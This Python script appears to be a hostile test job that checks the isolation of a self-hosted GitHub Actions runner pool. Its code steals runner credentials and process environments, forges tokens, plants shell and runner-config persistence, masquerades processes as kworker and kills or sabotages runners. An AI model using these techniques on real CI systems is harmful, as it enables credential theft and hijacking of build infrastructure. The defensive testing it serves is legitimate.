"""What a hostile job does. Standard library only: it is copied beside the pool and executed as a step of a real job.

    intruder.py break_in    take, change, speak and leave whatever can be: what came of it goes to the loot
    intruder.py feign       pretend that GitHub has forgotten the runner, and keep what it was known by
    intruder.py tamper      have another runner removed instead, and watch for what config.sh is given meanwhile
    intruder.py look        as a job of the next run: what is there that an earlier run left?

What it should try, and where the loot is, lies in `plan.json` beside it.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import signal
import sys
import time
from contextlib import suppress
from http.client import HTTPConnection
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

HERE = Path(__file__).resolve().parent
PLAN: dict[str, Any] = json.loads((HERE / "plan.json").read_text(encoding="utf-8"))
LOOT = Path(PLAN["loot"])
LEFT = "left-by-an-intruder"
LURKS = 20.0  # seconds; what it waits for comes within one
HOOK = "ACTIONS_RUNNER_HOOK_JOB_STARTED"
OPEN_TO_ALL = b"\2\0\0\0" + b"".join(bytes([who, 0, 7, 0]) + b"\xff" * 4 for who in (0x01, 0x04, 0x20))
"""A default access list: what is made in such a directory can be read and changed by all users."""


def runner_directory() -> Path:
    """Where our runner lies: our hook is its neighbour."""
    return Path(os.environ[HOOK]).parents[1] / "runner"


def work_directory() -> Path:
    return runner_directory().parent / "work"


def report(name: str, found: object) -> None:
    (LOOT / f"{name}.json").write_text(json.dumps(found), encoding="utf-8")


# --------------------------------------------------------------------------------------------------- what can be taken


def taken(path: str) -> bytes | None:
    """A file's content, or a directory's names; None if they are kept from us."""
    try:
        if os.path.isdir(path):
            return "\n".join(os.listdir(path)).encode()
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # a pipe would wait for a writer
        with os.fdopen(fd, "rb") as file:
            return file.read() or b""
    except BlockingIOError:
        return b""
    except OSError:
        return None


def harvest() -> None:
    """Everything that can be read: the pool's files by name, and arguments and environment of every process."""
    opened = []
    with open(LOOT / "harvest", "wb") as bag:
        for path in PLAN["paths"]:
            if (content := taken(path)) is not None:
                opened.append(path)
                bag.write(content + b"\n")
        for above, _, files in os.walk(runner_directory()):
            for name in files:
                bag.write((taken(os.path.join(above, name)) or b"") + b"\n")
        for pid in filter(str.isdecimal, os.listdir("/proc")):
            for name in ("cmdline", "environ"):
                bag.write((taken(f"/proc/{pid}/{name}") or b"") + b"\n")
    report("opened", opened)
    copy_credentials("credentials")


def copy_credentials(name: str) -> None:
    """What the runner itself shows GitHub. It runs as our user, so this is ours to take."""
    (LOOT / name).mkdir()
    for file in runner_directory().glob(".*"):
        with suppress(OSError):
            shutil.copyfile(file, LOOT / name / file.name)


# ------------------------------------------------------------------------------------------------- what can be changed


def can_change(path: str) -> bool:
    """Whether it can be written to, or put out of its way. Nothing that succeeds is left so."""
    with suppress(OSError):
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK))
        return True
    with suppress(OSError):
        os.mkdir(os.path.join(path, LEFT))
        os.rmdir(os.path.join(path, LEFT))
        return True
    with suppress(OSError):
        os.rename(path, f"{path}.{LEFT}")
        os.rename(f"{path}.{LEFT}", path)
        return True
    with suppress(OSError):
        os.chmod(path, 0o777)
        return True
    return False


def overpower() -> None:
    """Of the pool's processes: which can be signalled, or looked into?"""
    found = []
    for pid in PLAN["pids"]:
        with suppress(OSError):
            os.kill(pid, 0)
            found.append(f"kill {pid}")
        for name in ("mem", "environ", "cwd", "fd"):
            with suppress(OSError):
                os.close(os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
                found.append(f"{name} of {pid}")
    with suppress(OSError):
        os.setuid(0)
        found.append("became root")
    report("overpowered", found)


# ----------------------------------------------------------------------------------------------- whom we can speak for


def ask(url: str, method: str, path: str, token: str = "", body: object = None) -> tuple[int, Any]:
    connection = HTTPConnection(urlsplit(url).netloc, timeout=30)
    try:
        headers = {"content-type": "application/json"} | ({"authorization": f"Bearer {token}"} if token else {})
        connection.request(method, path, None if body is None else json.dumps(body), headers)
        answer = connection.getresponse()
        return answer.status, json.loads(answer.read() or b"{}")
    finally:
        connection.close()


def run_token() -> str:
    """What any job can buy with its identity: a token for its own run."""
    url = os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"]
    found = urlsplit(url)
    bearer = os.environ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]
    _, answer = ask(url, "GET", f"{found.path}?{found.query}&audience=bullpen", bearer)
    _, answer = ask(PLAN["serve"], "POST", "/v1/oidc/token", body={"token": answer["value"]})
    return str(answer["token"])


def speak() -> None:
    """Say everything that is not ours to say, with nothing, with a forged token, and with the one that is ours."""
    ours, spoken = run_token(), []
    _, _, mac = ours.rpartition("_")
    for token in ("", f"bpa_{PLAN['instance']}_{int(time.time()) + 3600}_{mac}", f"bpo_0123456789abcdef_{mac}", ours):
        for kind, method, path, body in PLAN["asked"]:
            status, answer = ask(PLAN["serve"], method, path, token, body)
            spoken.append([kind, token[:4], f"{method} {path}", status, answer.get("error", "")])
    report("spoken", spoken)
    report("own", ask(PLAN["serve"], "GET", f"/v1/runs/{os.environ['GITHUB_RUN_ID']}", ours)[0])


# ---------------------------------------------------------------------------------------------------- what can be left


def vanish(name: str) -> None:
    """Leave `intruder.py <name>` behind: no parent, no terminal, no environment, deaf to what can be ignored."""
    first = os.fork()
    if first:
        os.waitpid(first, 0)
        return
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    if os.fork() == 0:
        os.execve("/usr/bin/env", ["env", "-i", "python3", "-I", "-S", __file__, name], {"PATH": os.environ["PATH"]})
    os._exit(0)


def hide() -> None:
    """With a family of its own: it adopts orphans before our agent can, and its child wears another name."""
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
    if os.fork() == 0 and os.fork() == 0:
        (LOOT / f"pid-child-{os.getpid()}").touch()
        os.execve("/bin/sleep", ["kworker/u4:2", "600"], {})
    (LOOT / f"pid-hidden-{os.getpid()}").touch()
    while True:
        signal.pause()


def leave() -> None:
    runner = runner_directory()
    for place in (".", *(os.environ[name] for name in ("HOME", "TMPDIR", "RUNNER_TEMP", "RUNNER_TOOL_CACHE"))):
        (Path(place) / LEFT).write_text("found", encoding="utf-8")
        deep = Path(place) / f"{LEFT}-closed"
        deep.mkdir()
        (deep / "file").touch()
        deep.chmod(0)
    for place in (os.environ["HOME"], os.environ["TMPDIR"], os.environ["GITHUB_WORKSPACE"], str(work_directory())):
        os.setxattr(place, f"user.{LEFT}", b"found")
        os.setxattr(place, "system.posix_acl_default", OPEN_TO_ALL)
    (Path(os.environ["HOME"]) / ".bashrc").write_text("exit 1\n", encoding="utf-8")
    (Path(os.environ["HOME"]) / ".bash_env").write_text("exit 0\n", encoding="utf-8")
    # What GitHub's runner reads when it starts: no hook any more, and another bash to run it.
    planted = {".env": f"{HOOK}=\nBASH_ENV={os.environ['HOME']}/.bash_env\n", ".path": "/tmp\n", LEFT: "found"}
    for name, content in planted.items():
        with suppress(OSError):
            (runner / name).write_text(content, encoding="utf-8")
    if os.fork() == 0:
        os.setsid()
        (LOOT / f"pid-plain-{os.getpid()}").touch()
        os.execvpe("sleep", ["sleep", "600"], dict(os.environ))
    vanish("hide")


def lurk() -> None:
    (LOOT / f"pid-lurking-{os.getpid()}").touch()
    until = time.monotonic() + LURKS
    with open(LOOT / "lurked", "ab", buffering=0) as bag:
        while time.monotonic() < until:
            for pid in filter(str.isdecimal, os.listdir("/proc")):
                if b"ACTIONS_RUNNER_INPUT_" in (found := taken(f"/proc/{pid}/environ") or b""):
                    bag.write(found + b"\n")


def feign() -> None:
    """Make it look as if GitHub had forgotten our runner: then no process removes it, and the intruder has its keys."""
    copy_credentials("feigned")
    (runner_directory() / ".runner").unlink()
    (LOOT / "runner").write_text(str(runner_directory()), encoding="utf-8")
    vanish("strike")


def strike() -> None:
    """Once our job is over, for under a job it would be noticed: end the runner."""
    while not (LOOT / "strike").exists():
        time.sleep(0.01)
    directory = (LOOT / "runner").read_bytes()
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        with suppress(OSError):
            if (
                directory + b"/run" in Path(f"/proc/{pid}/cmdline").read_bytes()
                or os.readlink(f"/proc/{pid}/cwd").encode() == directory
            ):
                os.kill(int(pid), signal.SIGKILL)


def tamper() -> None:
    """Have another runner removed instead of this one, and leave a spy on the process that does it."""
    copy_credentials("tampered")
    path = runner_directory() / ".runner"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"agentName": PLAN["victim"]}), encoding="utf-8")
    os.chdir(runner_directory())
    for _ in range(2000):  # deeper than a path may be long, and than what removes it may call itself
        os.mkdir(LEFT)
        os.chdir(LEFT)
    os.chdir("/")
    vanish("lurk")


def look() -> None:
    """As the next run: whatever of the last one there is to be met."""
    seen, tagged = [], []
    for place in (str(runner_directory()), "../..", *(os.environ[name] for name in ("HOME", "TMPDIR", "RUNNER_TEMP"))):
        for above, directories, files in os.walk(place):
            seen += [os.path.join(above, name) for name in (*directories, *files)]
            tagged += [f"{above} {name}" for name in os.listxattr(above)]
    report("seen", [path for path in seen if not path.startswith(str(runner_directory() / "bin"))])
    report("attributes", tagged)
    report("hook", os.environ.get(HOOK, ""))


def break_in() -> None:
    harvest()
    report("changed", [path for path in PLAN["paths"] if can_change(path)])
    overpower()
    speak()
    leave()


if __name__ == "__main__":
    deeds = (break_in, look, feign, strike, tamper, hide, lurk)
    {deed.__name__: deed for deed in deeds}[sys.argv[1]]()
